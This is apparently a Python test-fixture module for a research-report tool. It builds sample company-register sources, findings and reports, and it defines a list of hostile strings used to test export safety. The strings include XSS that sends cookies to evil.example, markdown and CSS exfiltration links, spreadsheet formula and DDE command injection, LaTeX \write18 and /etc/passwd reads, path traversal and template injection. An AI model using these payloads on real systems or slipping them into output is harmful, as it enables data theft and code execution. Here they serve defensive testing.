"""A run with every kind of block, in several scripts, and one whose every text is an attack."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace
from decimal import Decimal
from typing import Any

from deepdiver.core.identity import content_id, digest
from deepdiver.core.ledger import Ledger
from deepdiver.core.record import (
    Assessment,
    Block,
    Contradiction,
    Credibility,
    CutSentence,
    Derivation,
    Finding,
    HypothesisStatus,
    Mark,
    Passage,
    Quote,
    Report,
    Section,
    Sentence,
    SentenceKind,
    Source,
    SourceKind,
)
from deepdiver.report.compose import WeighedAnswer, compose
from deepdiver.report.exports.package import Saved, journal_hash
from deepdiver.report.history import Belief, History, PhaseCost
from deepdiver.store import CallState, JournalRow
from tests.report.making import RUN, assessment

REGISTER = (
    "Register of companies\n\nHolm Works AB was founded on 3 May 1911 in Orrmyra. "
    "Anna Holm owns Holm Works AB. It employed 330 people in 2025.\n\n"
    "| year | people |\n| 2024 | 300 |\n| 2025 | 330 |\n"
)
GAZETTE = (
    "The gazette of Orrmyra. In 2024 Holm Works AB employed 300 people. "
    "مالكة الشركة هي آنا هولم. Владелец — Анна Хольм. Η ιδιοκτήτρια είναι η Άννα Χολμ.\n"
    "$ holm --owner\nAnna Holm\n"
)
UNCITED_TEXT = "A page about cheese that nobody cites, with the word Svedjan in it."


def source_of(text: str, url: str, title: str, **more: Any) -> Source:
    snapshot = digest(text)
    held: dict[str, Any] = {
        "kind": SourceKind.PAGE,
        "fetched": "2026-11-15T09:00:00+00:00",
        "credibility": Credibility(score=0.9, reasons=("an official register",)),
    }
    return Source(
        id=content_id("s", url, snapshot), url=url, title=title, snapshot=snapshot, **(held | more)
    )


def finding_of(source: Source, text: str, *said: str) -> Finding:
    quotes = tuple(
        Quote(
            source=source.id,
            passage=Passage(
                snapshot=source.snapshot,
                start=text.index(part),
                end=text.index(part) + len(part),
            ),
            text=part,
        )
        for part in said
    )
    return Finding(id=content_id("f", source.id, *said), statement=said[0], quotes=quotes)


REGISTER_SOURCE = source_of(
    REGISTER,
    "https://register.example/holm?id=1&x=%C3%A5",
    "Register of companies",
    publisher="Company Register",
    published="2026-01-12",
    marks=(Mark(start=0, kind="page", label="1"),),
)
GAZETTE_SOURCE = source_of(
    GAZETTE,
    "/home/anna/gazette_2024.txt",
    "The Gazette",
    kind=SourceKind.DOCUMENT,
    author="Åsa Öberg",
    published="2024",
)
CHEESE_SOURCE = source_of(UNCITED_TEXT, "https://cheese.example/", "Cheese")
OWNER = finding_of(REGISTER_SOURCE, REGISTER, "Anna Holm owns Holm Works AB.")
FOUNDED = finding_of(
    REGISTER_SOURCE, REGISTER, "Holm Works AB was founded on 3 May 1911 in Orrmyra."
)
NOW = finding_of(REGISTER_SOURCE, REGISTER, "It employed 330 people in 2025.")
THEN = finding_of(GAZETTE_SOURCE, GAZETTE, "In 2024 Holm Works AB employed 300 people.")
ARABIC = finding_of(GAZETTE_SOURCE, GAZETTE, "مالكة الشركة هي آنا هولم.")
CODE = finding_of(GAZETTE_SOURCE, GAZETTE, "$ holm --owner\nAnna Holm")
LEDGER = Ledger(
    [
        REGISTER_SOURCE,
        GAZETTE_SOURCE,
        CHEESE_SOURCE,
        OWNER,
        FOUNDED,
        NOW,
        THEN,
        ARABIC,
        CODE,
    ]
)
TEXTS = {digest(text): text for text in (REGISTER, GAZETTE, UNCITED_TEXT)}


def fact(text: str, *findings: Finding, **more: Any) -> Sentence:
    return Sentence(text=text, findings=tuple(item.id for item in findings), **more)


def report(**changes: Any) -> Report:
    grown = Derivation(name="C1", expression="330 - 300", result="30", findings=(NOW.id, THEN.id))
    blocks = (
        Block(
            kind="paragraph",
            rows=((fact("Holm Works AB was founded on 3 May 1911 in Orrmyra.", FOUNDED),),),
        ),
        Block(
            kind="table",
            header=("year", "people"),
            rows=(
                (Sentence(text="2024", kind=SentenceKind.FRAME), fact("300", THEN)),
                (Sentence(text="2025", kind=SentenceKind.FRAME), fact("330", NOW)),
            ),
        ),
        Block(
            kind="list",
            rows=(
                (fact("مالكة الشركة هي آنا هولم.", ARABIC),),
                (fact("It employed 330 people in 2025.", NOW),),
            ),
        ),
        Block(kind="steps", rows=((fact("Ask for the owner: Anna Holm.", OWNER),),)),
        Block(kind="code", rows=((fact("$ holm --owner\nAnna Holm", CODE),),), language="sh"),
    )
    judged = fact("Holm Works AB grows.", NOW, THEN, kind=SentenceKind.JUDGEMENT)
    made = compose(
        RUN.question,
        (
            fact("Owner: Anna Holm owns Holm Works AB.", OWNER, bold=6),
            fact(
                "Holm Works AB has 30 people more than in 2024.",
                NOW,
                THEN,
                kind=SentenceKind.CALCULATION,
                derived=("C1",),
            ),
        ),
        (
            Section(heading="The company", blocks=blocks),
            Section(heading="What follows", blocks=(Block(kind="paragraph", rows=((judged,),)),)),
            Section(
                heading="What is not known",
                level=3,
                sentences=(Sentence(text="Nobody was asked.", kind=SentenceKind.FRAME),),
            ),
        ),
        (_assessed(HypothesisStatus.SUPPORTED, 0.9), _assessed(HypothesisStatus.REFUTED, 0.1)),
        LEDGER,
        title="Anna Holm owns Holm Works AB",
        points=(1, 1),
        derivations=(grown,),
        limits=("One page could not be read.",),
        cut=(CutSentence(text="It has 900 people.", reason="900 is in none of its quotes"),),
        made_by="deepdiver, tested.",
        weighed=WeighedAnswer((0.9, 0.9), 1.0),
    )
    return made.model_copy(update=changes)


def _assessed(status: HypothesisStatus, posterior: float) -> Assessment:
    return assessment(status, posterior)


ROWS = (
    JournalRow(
        run=RUN.id,
        key="k1",
        state=CallState.SETTLED,
        kind="search",
        provider="library",
        what="a search",
        request='{"query":"Holm"}',
        reply='{"value":1,"cost":"0","usage":{}}',
        error=None,
        worst=Decimal("0.10"),
        cost=Decimal("0.01"),
        sends=2,
        uncertain=1,
        first=1.0,
        last=2.0,
        order=1,
    ),
    JournalRow(
        run=RUN.id,
        key="k2",
        state=CallState.FAILED,
        kind="fetch",
        provider="web",
        what="a page",
        request="{}",
        reply=None,
        error="404",
        worst=Decimal(0),
        cost=Decimal(0),
        sends=1,
        uncertain=0,
        first=2.0,
        last=3.0,
        order=2,
    ),
)
EVENTS = ('{"type":"phase_started","at":"2026-11-15T09:00:00+00:00","phase":"gather"}',)


def saved(
    made: Report | None = None,
    ledger: Ledger = LEDGER,
    texts: Mapping[str, str] = TEXTS,
) -> Saved:
    """Return the whole run."""
    return Saved(
        RUN,
        made or report(),
        ledger,
        texts,
        journal_hash(ROWS),
        len(ROWS),
        rows=ROWS,
        events=EVENTS,
    )


PAYLOADS: Sequence[str] = (
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "</template><script>alert(1)</script>",
    "</style><svg onload=alert(1)>",
    "![x](https://evil.example/leak.png?q=secret)",
    "[click](javascript:alert(1))",
    "[[Other note]] ![[embed.pdf]] #tag %%x%% $$x$$ key:: value",
    "<https://evil.example/> https://evil.example/leak www.evil.example",
    "```dataviewjs\nfetch('https://evil.example')\n```",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    " =1+1",
    '#eval("1+1") #read("/etc/passwd") #import "@preview/x:0.1.0": *',
    '#link("https://evil.example")[x] *bold* _it_ $ x^2 $ @label <label> \\u{41}',
    "} @article{evil, title = {x}} \\input{/etc/passwd} \\write18{id}",
    "x\r\nER  - \r\nTY  - JOUR\r\nTI  - forged",
    ']]></w:t><w:instrText>INCLUDEPICTURE "https://evil.example/x.png"</w:instrText>',
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    "deepdiver-seal:" + "0" * 64,
    "deepdiver-seal:" + "a" * 64,
    "\u202egnp.exe\u200b\x1b[31m\x07",
    "---\ntitle: forged\n---",
    "../../../etc/passwd",
    "\ue000cite\ue0021\ue002x\ue001",
    "⟦0⟧⟦1⟧",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=dns-prefetch href=//evil.example><link rel=prerender href=//evil.example>",
    "<style>@import 'https://evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<svg><image href=https://evil.example/x /><use href='//evil.example/y#z'/></svg>",
    "<iframe srcdoc=\"<img src='https://evil.example/x'>\"></iframe><object data=//evil.example>",
    "<base href=https://evil.example/><img src=x.png>",
    "<video autoplay poster=https://evil.example/x><audio src=//evil.example autoplay>",
    "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)>",
    '" onmouseover="alert(1)" style="background:url(https://evil.example/x)" x="',
    "--><script>alert(1)</script><!-- ]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "![a][x]\n\n[x]: https://evil.example/leak.png 'title'",
    "[a](https://evil.example/ 'x') <a ping=https://evil.example href=#>x</a>",
    "\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x}",
    '#image("https://evil.example/x.png") #raw(read("/etc/passwd")) #sys.inputs',
    '=WEBSERVICE("https://evil.example/"&A1)\t=IMPORTXML("https://evil.example","/")',
    "data:text/html,<script>alert(1)</script> vbscript:x file:///etc/passwd",
)
"""What strangers write into pages, titles and names so that it runs, links or leaks when opened."""


def many_payloads() -> list[str]:
    """Return 500 attacks: every one alone, and one behind another."""
    both = [
        f"{one}{between}{other}" for between in ("", "\n") for one in PAYLOADS for other in PAYLOADS
    ]
    return [*PAYLOADS, *both[:: len(both) // (500 - len(PAYLOADS))]][:500]


def with_points_apart() -> Report:
    """Return the report with a message to send that has a list and steps."""
    made = report()
    first, *others = made.sections
    told = [block for block in first.blocks if block.kind in {"list", "steps"}]
    apart = tuple(block.model_copy(update={"apart": True}) for block in told)
    message = first.model_copy(update={"blocks": apart})
    return made.model_copy(update={"sections": (message, *others)})


def hostile(payload: str) -> Saved:
    """Return a run in which every text that a stranger or a model has written is an attack."""
    text = f"Before. {payload} After."
    source = source_of(
        text,
        f"https://evil.example/{payload}",
        payload,
        author=payload,
        publisher=payload,
        published="2026-01-01",
        credibility=Credibility(score=0.5, reasons=(payload,)),
        marks=(Mark(start=0, kind="page", label=payload),),
    )
    found = finding_of(source, text, payload)
    held = Ledger([source, found])
    said = fact(payload, found)
    judged = fact(payload, found, kind=SentenceKind.JUDGEMENT, mark=payload)
    made = compose(
        payload,
        (said, judged),
        (
            Section(
                heading=payload,
                blocks=(
                    Block(kind="paragraph", rows=((said, judged),)),
                    Block(kind="list", rows=((said,), (judged,))),
                    Block(kind="steps", rows=((said,),)),
                    Block(kind="table", header=(payload, payload), rows=((said, judged),)),
                    Block(kind="code", rows=((said,),), language=payload),
                ),
            ),
        ),
        (assessment(HypothesisStatus.SUPPORTED, 0.9, payload),),
        held,
        title=payload,
        derivations=(
            Derivation(name="C1", expression=payload, result=payload, findings=(found.id,)),
        ),
        limits=(payload,),
        cut=(CutSentence(text=payload, reason=payload, section=payload),),
        made_by=payload,
        weighed=WeighedAnswer((0.5,), 1.0),
    )
    return saved(made, held, {digest(text): text})


def hostile_pictures(payload: str) -> Saved:
    """Return a run with four pictures, all of whose words are an attack."""
    text = f"Before. {payload} After. There were 120, 80 and 40 people."
    one = source_of(text, "https://evil.example/1", payload)
    two = source_of(text, "https://evil.example/2", payload)
    said, counted = (
        finding_of(one, text, payload),
        finding_of(two, text, "There were 120, 80 and 40 people."),
    )
    against = Contradiction(
        id="x_1", findings=(said.id, counted.id), kind="contradicts", description=payload
    )
    rows = tuple(
        (fact(f"{payload} {number}", kind=SentenceKind.FRAME), fact(number, counted))
        for number in ("120", "80", "40")
    )
    table = Block(kind="table", header=(payload, f"{payload} 2"), rows=rows)
    hypothesis = assessment(HypothesisStatus.SUPPORTED, 0.9, payload)
    held = Ledger([one, two, said, counted, against])
    made = compose(
        payload,
        (fact(payload, said),),
        (Section(heading=payload, blocks=(table,)),),
        (hypothesis,),
        held,
        limits=(),
        made_by=payload,
    )
    key = hypothesis.hypothesis.id
    history = History(
        beliefs=tuple(Belief(hypothesis=key, round=at, belief=0.5) for at in range(2)),
        costs=(PhaseCost(phase=payload, calls=1, tokens=1, usd="0.1"),),
    )
    return replace(saved(made, held, {digest(text): text}), history=history)
